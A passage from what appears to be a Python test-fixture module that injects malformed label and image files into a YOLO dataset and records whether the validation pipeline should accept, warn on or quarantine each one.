    j.bad_label("label_too_large", "a 5 MB label file (over max_label_bytes)", lines, "file_too_large")


@_kind
def _k_label_many_boxes(j: _Injector) -> None:
    lines = []
    for k in range(10_000):  # 10,000 distinct, valid, tiny boxes
        cx, cy = 0.01 + (k % 100) * 0.0098, 0.01 + (k // 100) * 0.0098
        lines.append(f"{k % 2} {cx:.6f} {cy:.6f} 0.005000 0.005000\n")
    image, _ = j.jpeg()
    img_rel, lbl_rel = j.pair("bad_label_many_boxes", image, "".join(lines))
    j.add("label_many_boxes", "10,000 valid boxes in one label", accepted(lbl_rel), accepted(img_rel),
          note="valid syntax, so integrity accepts it; poisoning reports it as a box_outlier, but its 10,000 "
               "identical boxes also swamp the per-class box statistics (see test_found_defects.py)")


@_kind
def _k_label_crlf(j: _Injector) -> None:
    image, label = j.jpeg()
    img_rel, lbl_rel = j.pair("bad_label_crlf", image, label.replace("\n", "\r\n"))
    j.add("label_crlf", "Windows line endings", accepted(lbl_rel), accepted(img_rel))


@_kind
def _k_label_trailing_whitespace(j: _Injector) -> None:
    image, label = j.jpeg()
    text = "".join(line + "  \t\n" for line in label.splitlines()) + "\n   \n\t\n"
    img_rel, lbl_rel = j.pair("bad_label_trailing_whitespace", image, text)
    j.add("label_trailing_whitespace", "trailing spaces/tabs and blank lines", accepted(lbl_rel), accepted(img_rel))


@_kind
def _k_label_scientific(j: _Injector) -> None:
    image, _ = j.jpeg()
    img_rel, lbl_rel = j.pair("bad_label_scientific", image, "0 5e-1 5.0E-1 2e-1 2.0e-01\n")
    j.add("label_scientific", "coordinates in scientific notation", accepted(lbl_rel), accepted(img_rel))


@_kind
def _k_label_fullwidth_digits(j: _Injector) -> None:
    image, _ = j.jpeg()
    text = "0 0.5 0.5 0.2 0.2\n".translate({ord(c): ord(c) + 0xFEE0 for c in "0123456789"})
    img_rel, lbl_rel = j.pair("bad_label_fullwidth_digits", image, text)
    j.add("label_fullwidth_digits", "coordinates written with full-width digits (０.５)", accepted(lbl_rel),
          accepted(img_rel), note="Python's int()/float() and NumPy (which Ultralytics uses) read them alike")


@_kind
def _k_label_empty(j: _Injector) -> None:
    image, _ = j.jpeg()
    img_rel, lbl_rel = j.pair("bad_label_empty", image, b"")
    j.add("label_empty", "zero-byte label file (a YOLO background image)", warned(lbl_rel, "label_empty"),
          accepted(img_rel))


@_kind
def _k_label_blank_lines(j: _Injector) -> None:
    image, _ = j.jpeg()
    img_rel, lbl_rel = j.pair("bad_label_blank_lines", image, "\n \n\t\r\n")
    j.add("label_blank_lines", "label with blank lines only", warned(lbl_rel, "label_empty"), accepted(img_rel))


@_kind
def _k_label_without_image(j: _Injector) -> None:
    _, label = j.fresh()
    rel = "labels/train/bad_label_without_image.txt"
    j.write(rel, label.encode())
    j.add("label_without_image", "orphan label", quarantined(rel, "label_without_image"))


@_kind
def _k_image_without_label(j: _Injector) -> None:
    image, _ = j.jpeg()
    img_rel, _ = j.pair("bad_image_without_label", image, None)
    j.add("image_without_label", "image with no label file (a YOLO background image)",
          warned(img_rel, "image_without_label"))


# --------------------------------------------------------------------------- entry points


def inject_bad_inputs(dataset_root: str | os.PathLike, *, seed: int = 0, kinds: Iterable[str] | None = None,
                      size: tuple[int, int] = (160, 160)) -> list[BadInput]:
    """Mix every kind of bad input (or only ``kinds``) into the dataset; return what each must get.

    Files outside the root that symlinks point to are written to ``<root>.outside/``.
    Generated samples already in the dataset are left untouched. Deterministic for a seed.
    """
    import numpy as np

    root = Path(dataset_root)
    if not (root / "data.yaml").is_file():
        raise ValueError(f"{root} is not a YOLO dataset (no data.yaml)")
    outside = root.with_name(root.name + ".outside")
    outside.mkdir(exist_ok=True)
    names = list(KINDS) if kinds is None else list(kinds)
    unknown = sorted(set(names) - set(KINDS))
    if unknown:
        raise ValueError(f"unknown bad-input kinds {unknown}")
    injector = _Injector(root=root, outside=outside, size=size, rng=np.random.default_rng(seed))
    # Folders that will be locked go last, so nothing else needs to write into them.
    for name in sorted(names, key=lambda n: (n in ("permission_denied", "unreadable_directory"), n)):
        KINDS[name](injector)
    paths = [p for b in injector.results for p in b.relpaths]
    if len(paths) != len(set(paths)):
        raise AssertionError("two bad-input kinds claim the same path")
    return injector.results


def drop_last_class_name(dataset_root: str | os.PathLike) -> list[BadInput]:
    """Rewrite ``data.yaml`` without its last class name, so labels that use it name a class that is gone.

    Returns the expectation for every label/image pair: labels using the dropped id are quarantined with
    ``label_class_out_of_range`` (their image follows), the others stay accepted.
    """
    import yaml

    root = Path(dataset_root)
    doc = yaml.safe_load((root / "data.yaml").read_text())
    names = doc["names"]
    items = list(names.values()) if isinstance(names, dict) else list(names)
    if len(items) < 2:
        raise ValueError("data.yaml needs at least two classes to drop one")
    dropped = len(items) - 1
    doc["names"] = {i: n for i, n in enumerate(items[:dropped])}
    (root / "data.yaml").write_text(yaml.safe_dump(doc, sort_keys=False))
    out: list[BadInput] = []
    for label in sorted((root / "labels").rglob("*.txt")):
        rel = label.relative_to(root).as_posix()
        image = next((p for p in (root / "images").joinpath(*label.relative_to(root / "labels").parts[:-1])
                      .glob(label.stem + ".*") if p.is_file()), None)
        if image is None:
            continue
        img_rel = image.relative_to(root).as_posix()
        uses = any(line.split()[:1] == [str(dropped)] for line in label.read_text().splitlines())
        if uses:
            out.append(BadInput("data_yaml_missing_class", f"label uses class {dropped}, no longer named",
                                (quarantined(rel, "label_class_out_of_range"),
                                 quarantined(img_rel, "sample_label_rejected"))))
        else:
            out.append(BadInput("data_yaml_missing_class", "label uses only named classes",
                                (accepted(rel), accepted(img_rel))))
    return out


def count_entries(root: str | os.PathLike) -> int:
    """Input entries under ``root`` as the integrity stage must see them: every non-directory entry
    (regular files, symlinks to files or folders, FIFOs), plus one per folder that cannot be listed."""
    total = 0
    stack = [os.fsencode(root)]
    while stack:
        directory = stack.pop()
        try:
            entries = list(os.scandir(directory))
        except PermissionError:
            total += 1
            continue
        for entry in entries:
            if entry.is_dir(follow_symlinks=False):
                stack.append(entry.path)
            else:
                total += 1
    return total


def unlock(dataset_root: str | os.PathLike) -> None:
    """Give the mode-000 files and folders back their permissions (for clean-up)."""
    for rel in ("images/train/bad_locked", "images/train/bad_permission_denied.jpg"):
        path = Path(dataset_root) / rel
        if path.exists():
            os.chmod(path, stat.S_IRWXU if path.is_dir() else stat.S_IRUSR | stat.S_IWUSR)
